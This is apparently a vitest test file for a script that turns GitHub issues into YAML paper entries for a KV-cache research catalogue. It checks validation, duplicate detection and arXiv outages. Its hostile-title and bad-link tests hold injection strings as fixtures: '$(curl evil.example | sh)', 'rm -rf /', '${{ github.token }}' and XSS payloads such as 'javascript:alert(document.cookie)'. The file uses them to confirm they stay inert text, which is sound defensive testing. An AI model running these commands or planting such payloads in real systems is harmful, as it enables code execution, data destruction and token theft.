/**
 * `npm run intake` on GitHub `issues` events in their real shape (tests/fixtures/intake), against
 * a fake arXiv on 127.0.0.1: an issue becomes a valid paper file and the texts of its pull request,
 * or a comment that names each problem, or a pointer to the paper the catalogue has already; and a
 * hostile issue stays text everywhere it goes.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { loadCatalogueOrThrow } from '../../src/catalogue/load.ts';
import { trainSuggester } from '../../src/suggest/suggester.ts';
import { catalogueFiles, copyCatalogue, FIXTURE, readIn, ROOT, runScript, startScript, writeIn } from '../helpers/catalogue.ts';
import { gfmTree, nodesOf } from '../helpers/markdown-tree.ts';
import { arxivAnswer, FAST_FAKES_ENV, fakeServices, type ArxivPaper, type FakeService, type Reply } from './enrich-fake-services.ts';

const EVENTS = path.join(ROOT, 'tests/fixtures/intake');
const SITE = { SITE_URL: 'https://octo-org.github.io', BASE_PATH: '/kv-cache-atlas/' };
const serve = fakeServices();

const PYRAMIDKV: ArxivPaper = {
	id: '2406.02069',
	version: 3,
	published: '2024-06-04T17:58:05Z',
	title: 'PyramidKV: Dynamic KV Cache Compression based on Pyramidal Information Funneling',
	authors: ['Zefan Cai', 'Yichi Zhang', 'Bofei Gao', 'Yuliang Liu', 'Tianyu Liu', 'Keming Lu', 'Wayne Xiong', 'Yue Dong', 'Baobao Chang', 'Junjie Hu', 'Wen Xiao'],
	summary: 'Attention in lower layers spreads widely and narrows in higher layers.\nPyramidKV therefore keeps a larger KV cache budget in lower layers and a smaller one in higher layers,\nselecting tokens dynamically for each layer.',
};
const KVQUANT: ArxivPaper = {
	id: '2401.18079',
	version: 4,
	published: '2024-01-31T18:58:14Z',
	title: 'KVQuant: Towards 10 Million Context Length LLM Inference with KV Cache Quantization',
	authors: ['Coleman Hooper', 'Sehoon Kim', 'Hiva Mohammadzadeh', 'Michael W. Mahoney', 'Yakun Sophia Shao', 'Kurt Keutzer', 'Amir Gholami'],
	summary: 'Quantizing the KV cache to low precision with per-channel key quantization.',
};
const ARXIV = new Map([PYRAMIDKV, KVQUANT].map((p) => [p.id, p]));

const cleanup: string[] = [];
afterEach(() => {
	for (const d of cleanup.splice(0)) rmSync(d, { recursive: true, force: true });
});

/** A fresh copy of the fixture catalogue and an empty --out folder. */
function setUp(): { dir: string; out: string } {
	const dir = copyCatalogue();
	const out = mkdtempSync(path.join(tmpdir(), 'atlas-intake-out-'));
	cleanup.push(dir, out);
	return { dir, out };
}

/** Run `node scripts/intake.ts` on an event of tests/fixtures/intake, with short retries. */
async function intake(event: string, dir: string, out: string, fake: FakeService | null, env: NodeJS.ProcessEnv = {}) {
	const run = await startScript('intake', ['--event', path.join(EVENTS, event), '--data', dir, '--out', out], {
		...FAST_FAKES_ENV,
		ARXIV_API_URL: fake?.url ?? 'http://127.0.0.1:9/never-asked',
		ENRICH_ATTEMPTS: '2',
		...SITE,
		...env,
	}).done;
	const file = (name: string) => {
		try {
			return readFileSync(path.join(out, name), 'utf8');
		} catch {
			return null;
		}
	};
	return { ...run, outcome: JSON.parse(file('outcome.json') ?? 'null'), comment: file('comment.md') ?? '', body: file('pr-body.md'), title: file('pr-title.txt'), branch: file('branch.txt'), outputs: file('outputs.txt') ?? '', file };
}

const fixturePapers = readdirSync(path.join(FIXTURE, 'papers')).length;

describe('npm run intake: an issue becomes a paper file', () => {
	it('turns an arXiv link alone into a valid paper with arXiv\'s facts, filed under the suggester\'s first leaf, and texts that name it and its page', async () => {
		const { dir, out } = setUp();
		const fake = await serve(arxivAnswer(ARXIV));

		const run = await intake('arxiv-link-alone.json', dir, out, fake);

		expect(run.code, run.stderr).toBe(0);
		const file = readIn(dir, 'papers/pyramidkv.yaml');
		const paper = parse(file) as Record<string, unknown>;
		const top = run.outcome.categories.suggestions[0].category;
		expect(paper).toEqual({
			title: PYRAMIDKV.title,
			aliases: ['PyramidKV'],
			year: 2024,
			venue: 'arXiv',
			categories: [top],
			paper: 'https://arxiv.org/abs/2406.02069',
			authors: PYRAMIDKV.authors,
			date: '2024-06-04',
			added: '2026-12-01',
		});
		expect(file.split('\n').slice(0, 2)).toEqual([expect.stringMatching(/^# yaml-language-server: \$schema=\S+\/public\/schemas\/paper\.schema\.json$/), '# From issue #101']);
		expect(runScript('validate', [], { CATALOGUE_DIR: dir }).code).toBe(0);
		expect(fake.requests.map((r) => r.url.searchParams.get('id_list'))).toEqual(['2406.02069']);

		// The category is the suggester's first for the paper's title, short name and abstract, learnt from the catalogue before.
		const suggested = trainSuggester(loadCatalogueOrThrow(FIXTURE)).suggest({ title: PYRAMIDKV.title, aliases: ['PyramidKV'], abstract: PYRAMIDKV.summary!.replace(/\s+/g, ' ') }, 3);
		expect(run.outcome.categories.suggestions.map((s: { category: string; score: number }) => [s.category, s.score])).toEqual(suggested.map((s) => [s.category, s.score]));

		expect(run.outcome).toMatchObject({ outcome: 'ready', issue: 101, id: 'pyramidkv', branch: 'intake/issue-101', page: 'https://octo-org.github.io/kv-cache-atlas/papers/pyramidkv/', labels: [], removeLabels: ['needs-info'], arxiv: { id: '2406.02069', status: 'found' } });
		expect(run.branch).toBe('intake/issue-101\n');
		expect(run.title).toBe(`Add paper: ${PYRAMIDKV.title}\n`);
		expect(run.body!.split('\n')[0]).toBe('Suggested by @kvfan in #101. Closes #101.');
		expect(run.body).toContain('(<https://octo-org.github.io/kv-cache-atlas/papers/pyramidkv/>)');
		expect(run.body).toContain('**The category was suggested**');
		for (const [i, s] of suggested.entries()) expect(run.body).toContain(`${i + 1}. \`${s.category}\``);
		expect(run.body).toMatch(/: score 0\.\d{3}\n/);
		expect(run.body).toContain(`\`\`\`yaml\n${file.trimEnd()}\n\`\`\``);
		expect(run.comment.split('\n')[0]).toBe('<!-- kv-cache-atlas-intake -->');
		expect(run.comment).toContain('Thank you, @kvfan!');
		expect(run.comment).toContain(`\`${PYRAMIDKV.title}\``);
		expect(run.comment).toContain('(<https://octo-org.github.io/kv-cache-atlas/papers/pyramidkv/>)');
		expect(run.stdout).toContain('✓ issue #101: wrote');
	});

	it('keeps a full form\'s own fields (the venue alias written canonical, two categories, its authors) and takes the first date from arXiv', async () => {
		const { dir, out } = setUp();
		const fake = await serve(arxivAnswer(ARXIV));

		const run = await intake('full-form.json', dir, out, fake);

		expect(run.code, run.stderr).toBe(0);
		expect(parse(readIn(dir, 'papers/kvquant.yaml'))).toEqual({
			title: KVQUANT.title,
			aliases: ['KVQuant'],
			year: 2024,
			venue: 'NeurIPS',
			categories: ['quantization', 'static-selection'],
			paper: 'https://arxiv.org/abs/2401.18079',
			code: 'https://github.com/SqueezeAILab/KVQuant',
			authors: ['Coleman Hooper', 'Sehoon Kim', 'Hiva Mohammadzadeh'],
			date: '2024-01-31',
			summary: 'Per-channel key quantization before RoPE,\nnon-uniform datatypes and dense-and-sparse outliers.',
			added: '2026-12-01',
		});
		expect(runScript('validate', [], { CATALOGUE_DIR: dir }).code).toBe(0);
		expect(run.outcome.categories).toMatchObject({ source: 'form', slugs: ['quantization', 'static-selection'], suggestions: [] });
		expect(run.outcome.sources).toMatchObject({ title: 'form', authors: 'form', venue: 'form', date: 'arXiv' });
		expect(run.body).not.toContain('was suggested');
		expect(run.body).toContain('`The venue "NIPS" is written as its canonical name "NeurIPS".`');
		expect(run.body!.split('\n')[0]).toBe('Suggested by @quant-author in #102. Closes #102.');
	});

	it('makes a paper of a published venue from the form alone, without asking arXiv', async () => {
		const { dir, out } = setUp();
		const fake = await serve(arxivAnswer(ARXIV));

		const run = await intake('published-venue.json', dir, out, fake);

		expect(run.code, run.stderr).toBe(0);
		expect(fake.requests).toEqual([]);
		expect(parse(readIn(dir, 'papers/published-cache-compression-for.yaml'))).toEqual({
			title: 'Published Cache Compression for Long Context Serving',
			year: 2024,
			venue: 'ICML',
			categories: ['memory-management'],
			paper: 'https://proceedings.mlr.press/v235/zhang24a.html',
			authors: ['Ada Lovelace', 'Alan Turing'],
			added: '2026-12-01',
		});
		expect(run.outcome).toMatchObject({ outcome: 'ready', arxiv: null, page: 'https://octo-org.github.io/kv-cache-atlas/papers/published-cache-compression-for/' });
		expect(runScript('validate', [], { CATALOGUE_DIR: dir }).code).toBe(0);
	});
});

describe('npm run intake: problems to fix in the issue', () => {
	it('names an unknown venue with the validator\'s "did you mean", exits 1 and writes nothing to the catalogue', async () => {
		const { dir, out } = setUp();
		const before = catalogueFiles(dir);

		const run = await intake('unknown-venue.json', dir, out, null);

		expect(run.code).toBe(1);
		expect(catalogueFiles(dir)).toEqual(before);
		expect(run.outcome).toMatchObject({ outcome: 'problems', labels: ['needs-info'], problems: [{ field: 'Venue', key: 'venue', message: 'unknown venue "NeurIPs 2024" — did you mean "NeurIPS"?' }] });
		expect(run.outcome.problems[0].check).toMatch(/papers\/venue-spelling-matters-for\.yaml:\d+:\d+ {2}venue {2}unknown venue "NeurIPs 2024" — did you mean "NeurIPS"\?$/);
		expect(run.comment).toContain('- **Venue** `NeurIPs 2024`: `unknown venue "NeurIPs 2024" — did you mean "NeurIPS"?` Edit the issue and change **Venue**.');
		expect(run.comment).toContain(run.outcome.problems[0].check);
		expect(run.stderr).toContain(run.outcome.problems[0].check);
		expect(run.body).toBeNull();
		expect(run.outputs).toContain('outcome=problems\n');
	});

	it('asks for the title of a paper that is not on arXiv, without a request to arXiv', async () => {
		const { dir, out } = setUp();
		const before = catalogueFiles(dir);
		const fake = await serve(arxivAnswer(ARXIV));

		const run = await intake('missing-title.json', dir, out, fake);

		expect(run.code).toBe(1);
		expect(fake.requests).toEqual([]);
		expect(catalogueFiles(dir)).toEqual(before);
		expect(run.outcome.problems).toEqual([{ field: 'Title', key: 'title', message: 'is empty; a paper that is not on arXiv needs its title in the form', fix: 'Edit the issue and fill in Title, as published.' }]);
		expect(run.comment).toContain('- **Title**: `is empty; a paper that is not on arXiv needs its title in the form` Edit the issue and fill in Title, as published.');
	});

	it.each([
		['bad-link-javascript.json', 'javascript:alert(document.cookie)', ['Paper link']],
		['bad-link-ftp.json', 'ftp://ftp.example.org/pub/kv-cache.pdf', ['Paper link', 'Code link']],
	])('refuses a link that is not http(s) (%s) as the validator does, and never makes it a link', async (event, link, fields) => {
		const { dir, out } = setUp();
		const before = catalogueFiles(dir);

		const run = await intake(event, dir, out, null);

		expect(run.code).toBe(1);
		expect(catalogueFiles(dir)).toEqual(before);
		expect(run.outcome.problems.map((p: { field: string }) => p.field)).toEqual(fields);
		for (const p of run.outcome.problems) expect(p.message).toBe('must be an absolute http:// or https:// URL');
		expect(run.outcome.problems[0].check).toMatch(/ {2}paper {2}must be an absolute http:\/\/ or https:\/\/ URL$/);
		expect(run.comment).toContain(`\`${link}\``);
		expect(linksOf(run.comment).filter((u) => !u.startsWith('https://'))).toEqual([]);
	});

	it('tells an issue that is not written with the form to use it, and asks nothing of arXiv', async () => {
		const { dir, out } = setUp();
		const before = catalogueFiles(dir);
		const fake = await serve(arxivAnswer(ARXIV));

		const run = await intake('not-the-form.json', dir, out, fake);

		expect(run.code).toBe(1);
		expect(fake.requests).toEqual([]);
		expect(catalogueFiles(dir)).toEqual(before);
		expect(run.outcome).toMatchObject({ outcome: 'problems', labels: ['needs-info'], problems: [{ field: 'Issue' }] });
		expect(run.comment).toContain('the issue is not written with the Add a paper form');
		expect(run.comment).toContain('Open a new issue with the Add a paper form');
	});
});

describe('npm run intake: papers decided before', () => {
	it('finds a catalogue paper by its arXiv id in another form (PDF, v2): exit 3, a comment linking its page, no request to arXiv', async () => {
		const { dir, out } = setUp();
		const before = catalogueFiles(dir);
		const fake = await serve(arxivAnswer(ARXIV));

		const run = await intake('duplicate-pdf-v2.json', dir, out, fake);

		expect(run.code).toBe(3);
		expect(fake.requests).toEqual([]);
		expect(catalogueFiles(dir)).toEqual(before);
		expect(run.outcome).toMatchObject({ outcome: 'duplicate', id: 'snapkv', labels: ['duplicate'], duplicateOf: { id: 'snapkv', evidence: 'arXiv 2404.14469', page: 'https://octo-org.github.io/kv-cache-atlas/papers/snapkv/' } });
		expect(run.comment).toContain('this paper is in the atlas already, as `SnapKV: LLM Knows What You are Looking for Before Generation` (arXiv 2404.14469)');
		expect(run.comment).toContain('(<https://octo-org.github.io/kv-cache-atlas/papers/snapkv/>)');
		expect(run.stdout).toContain('already in the catalogue');
	});

	it('answers a paper rejected before with the reason, whatever form its link takes: exit 3', async () => {
		const { dir, out } = setUp();
		writeIn(dir, 'rejections.yaml', '# yaml-language-server: $schema=../../public/schemas/rejections.schema.json\n- title: A Survey on Large Language Model Acceleration based on KV Cache Management\n  paper: https://arxiv.org/abs/2412.19442\n  kind: survey\n  reason: The survey this atlas is built on, not a method of its own.\n  decided: 2026-11-02\n');
		expect(runScript('validate', [], { CATALOGUE_DIR: dir }).code).toBe(0);
		const before = catalogueFiles(dir);
		const fake = await serve(arxivAnswer(ARXIV));

		const run = await intake('rejected-survey.json', dir, out, fake);

		expect(run.code).toBe(3);
		expect(fake.requests).toEqual([]);
		expect(catalogueFiles(dir)).toEqual(before);
		expect(run.outcome).toMatchObject({ outcome: 'rejected', labels: ['duplicate'], rejection: { kind: 'survey: a survey or review', reason: 'The survey this atlas is built on, not a method of its own.', evidence: 'arXiv 2412.19442' } });
		expect(run.comment).toContain('This paper was considered before and not added');
		expect(run.comment).toContain('`The survey this atlas is built on, not a method of its own.`');
	});
});

describe('npm run intake: an edit of the issue', () => {
	it('gives the same branch and rewrites the same file, never a second one; the same event twice writes the same bytes', async () => {
		const { dir, out } = setUp();
		const fake = await serve(arxivAnswer(ARXIV));

		const first = await intake('arxiv-link-alone.json', dir, out, fake);
		const edited = await intake('arxiv-link-alone-edited.json', dir, out, fake);
		const text = readIn(dir, 'papers/pyramidkv.yaml');
		const again = await intake('arxiv-link-alone-edited.json', dir, out, fake);

		expect([first.code, edited.code, again.code]).toEqual([0, 0, 0]);
		expect(first.branch).toBe('intake/issue-101\n');
		expect(edited.branch).toBe(first.branch);
		expect(edited.outcome.file).toBe(first.outcome.file);
		expect(readdirSync(path.join(dir, 'papers'))).toHaveLength(fixturePapers + 1);
		expect(parse(text)).toMatchObject({ categories: ['dynamic-selection'], aliases: ['PyramidKV'] });
		expect(readIn(dir, 'papers/pyramidkv.yaml')).toBe(text);
		expect(runScript('validate', [], { CATALOGUE_DIR: dir }).code).toBe(0);
	});
});

describe('npm run intake: arXiv failing', () => {
	const failing = (reply: Reply) => () => reply;

	it('files a form with its own title from its own fields when arXiv answers 503 to every try, and the pull request says what is missing', async () => {
		const { dir, out } = setUp();
		const fake = await serve(failing({ status: 503, body: 'Service Unavailable' }));

		const run = await intake('full-form.json', dir, out, fake);

		expect(run.code, run.stderr).toBe(0);
		expect(fake.requests).toHaveLength(2);
		const paper = parse(readIn(dir, 'papers/kvquant.yaml')) as Record<string, unknown>;
		expect(paper).toMatchObject({ title: KVQUANT.title, authors: ['Coleman Hooper', 'Sehoon Kim', 'Hiva Mohammadzadeh'], year: 2024, venue: 'NeurIPS' });
		expect(paper.date).toBeUndefined();
		expect(run.outcome.arxiv).toEqual({ id: '2401.18079', status: 'failed', reason: 'HTTP 503 after 2 tries' });
		expect(run.body).toContain('⚠ arXiv did not answer');
		expect(run.body).toContain('`npm run enrich -- --only kvquant --apply`');
		expect(run.comment).toContain('arXiv did not answer, so the authors and the first date are missing');
	});

	it('cannot file an arXiv link alone while arXiv rate-limits every try: exit 1, and the comment asks to try again or give the title', async () => {
		const { dir, out } = setUp();
		const before = catalogueFiles(dir);
		const fake = await serve(failing({ status: 429, headers: { 'retry-after': '0' }, body: 'Rate exceeded.' }));

		const run = await intake('arxiv-link-alone.json', dir, out, fake);

		expect(run.code).toBe(1);
		expect(fake.requests).toHaveLength(2);
		expect(catalogueFiles(dir)).toEqual(before);
		expect(run.outcome.problems).toEqual([{ field: 'Title', key: 'title', message: 'is empty, and arXiv did not answer (rate limited (HTTP 429) after 2 tries), so the title could not be taken from it', fix: 'Edit the issue to try again later (any edit does), or fill in Title.' }]);
		expect(run.stderr).toContain('arXiv: rate limited (HTTP 429); trying again');
	});

	it('waits out a 429 and files arXiv\'s facts from the answer after it', async () => {
		const { dir, out } = setUp();
		const answer = arxivAnswer(ARXIV);
		const fake = await serve((req, nth) => (nth === 1 ? { status: 429, headers: { 'retry-after': '0' }, body: 'Rate exceeded.' } : answer(req)));

		const run = await intake('arxiv-link-alone.json', dir, out, fake);

		expect(run.code, run.stderr).toBe(0);
		expect(fake.requests).toHaveLength(2);
		expect(parse(readIn(dir, 'papers/pyramidkv.yaml'))).toMatchObject({ title: PYRAMIDKV.title, date: '2024-06-04', authors: PYRAMIDKV.authors });
	});

	it('reports an arXiv id arXiv does not know as a problem of the paper link', async () => {
		const { dir, out } = setUp();
		const fake = await serve(arxivAnswer(new Map()));

		const run = await intake('arxiv-link-alone.json', dir, out, fake);

		expect(run.code).toBe(1);
		expect(run.outcome.problems).toEqual([{ field: 'Paper link', key: 'paper', message: 'arXiv has no paper 2406.02069', fix: 'Check the link or the id (such as 2404.14469) and edit the issue.' }]);
	});
});

describe('npm run intake: a hostile issue stays text', () => {
	it('writes a title of backticks, $(…), HTML, YAML syntax, newlines and 5,000 characters into the file as text, and shows it only as code in the comment and the pull request', async () => {
		const { dir, out } = setUp();
		const event = JSON.parse(readFileSync(path.join(EVENTS, 'hostile-title.json'), 'utf8')) as { issue: { body: string } };
		const formTitle = /### Title\n\n([\s\S]*?)\n\n### /.exec(event.issue.body)![1]!;
		const summary = /### Summary\n\n([\s\S]*)$/.exec(event.issue.body)![1]!;

		const run = await intake('hostile-title.json', dir, out, null);

		expect(run.code, run.stderr).toBe(0);
		const [name] = readdirSync(path.join(dir, 'papers')).filter((n) => readIn(dir, `papers/${n}`).includes('# From issue #110'));
		const paper = parse(readIn(dir, `papers/${name}`)) as Record<string, unknown>;
		// The title field is one line in the file: its newlines become spaces, and nothing else changes.
		expect(paper.title).toBe(formTitle.replace(/\s+/g, ' '));
		expect((paper.title as string).length).toBeGreaterThan(5000);
		expect(paper.authors).toEqual(['Mallory `$(id)` <b>Bold</b>']);
		expect(paper.summary).toBe(summary);
		expect(runScript('validate', [], { CATALOGUE_DIR: dir }).code).toBe(0);

		for (const [what, text] of [['comment', run.comment], ['pull request body', run.body!]] as const) {
			const tree = gfmTree(text);
			// Only the intake's own HTML: the marker and the abstract's <details>.
			for (const n of nodesOf(tree, 'html')) expect(['<!-- kv-cache-atlas-intake -->', '<details><summary>The abstract on arXiv (not written to the file)</summary>', '</details>'], what).toContain(n.value);
			// Links only to the paper's page, arXiv and the issue's own link: none from the issue's text.
			expect(linksOf(text).filter((u) => !u.startsWith('https://octo-org.github.io/') && u !== 'https://openreview.net/forum?id=h0st1le'), what).toEqual([]);
			// Outside code, none of the title's pieces: no mention, no HTML, no command.
			const prose = nodesOf(tree, 'text').map((n) => n.value).join('\n');
			for (const piece of ['@octo-org/maintainers', '<img', '$(curl', 'rm -rf', 'javascript:', '${{', '<script>']) expect(prose, `${what}: ${piece}`).not.toContain(piece);
			const code = nodesOf(tree, 'inlineCode').map((n) => n.value).join('\n') + nodesOf(tree, 'code').map((n) => n.value).join('\n');
			for (const piece of ['`rm -rf /` $(curl evil.example | sh) ${{ github.token }} <img src=x onerror=alert(1)>', '@octo-org/maintainers']) expect(code, what).toContain(piece);
			expect(text.length).toBeLessThan(65_536);
		}
		// The summary's own fence cannot close the file's: the YAML block ends where it should.
		const fence = nodesOf(gfmTree(run.body!), 'code').find((n) => n.lang === 'yaml')!;
		expect(parse(fence.value)).toEqual(paper);

		const title = run.title!;
		expect(title.split('\n')).toEqual([expect.any(String), '']);
		expect(title.length).toBeLessThanOrEqual(256);
		expect(title.startsWith('Add paper: `rm -rf /` $(curl evil.example | sh)')).toBe(true);
		// One step output a line, no more: a newline in the title cannot add an output of its own.
		expect(run.outputs.split('\n').filter(Boolean).map((l) => l.split('=')[0])).toEqual(['outcome', 'issue', 'branch', 'id', 'file', 'page', 'title', 'commit-message']);
		expect(run.body!.split('\n')[0]).toBe('Suggested by @mallory in #110. Closes #110.');
	});
});

describe('npm run intake: bad flags and unreadable events', () => {
	it.each([
		[['--evnt', 'x.json'], 'unknown flag --evnt — did you mean --event?'],
		[[], '--event is missing; add --event "$GITHUB_EVENT_PATH"'],
		[['--event', 'no/such/event.json'], 'cannot read --event no/such/event.json: no such file'],
		[['--event', path.join(ROOT, 'package.json')], 'is not a GitHub "issues" event: it has no "issue"'],
		[['--event', path.join(ROOT, 'README.md')], 'is not JSON'],
	])('exits 2 for %j and says why', async (args, message) => {
		const { dir, out } = setUp();
		const before = catalogueFiles(dir);

		const run = await startScript('intake', [...args, '--data', dir, '--out', out], {}).done;

		expect(run.code).toBe(2);
		expect(run.stderr).toContain(message);
		expect(catalogueFiles(dir)).toEqual(before);
		expect(readdirSync(out)).toEqual([]);
	});
});

/** The destinations of every link of a markdown text (GFM autolinks included). */
function linksOf(text: string): string[] {
	return nodesOf(gfmTree(text), 'link', 'image', 'definition').map((n) => n.url);
}
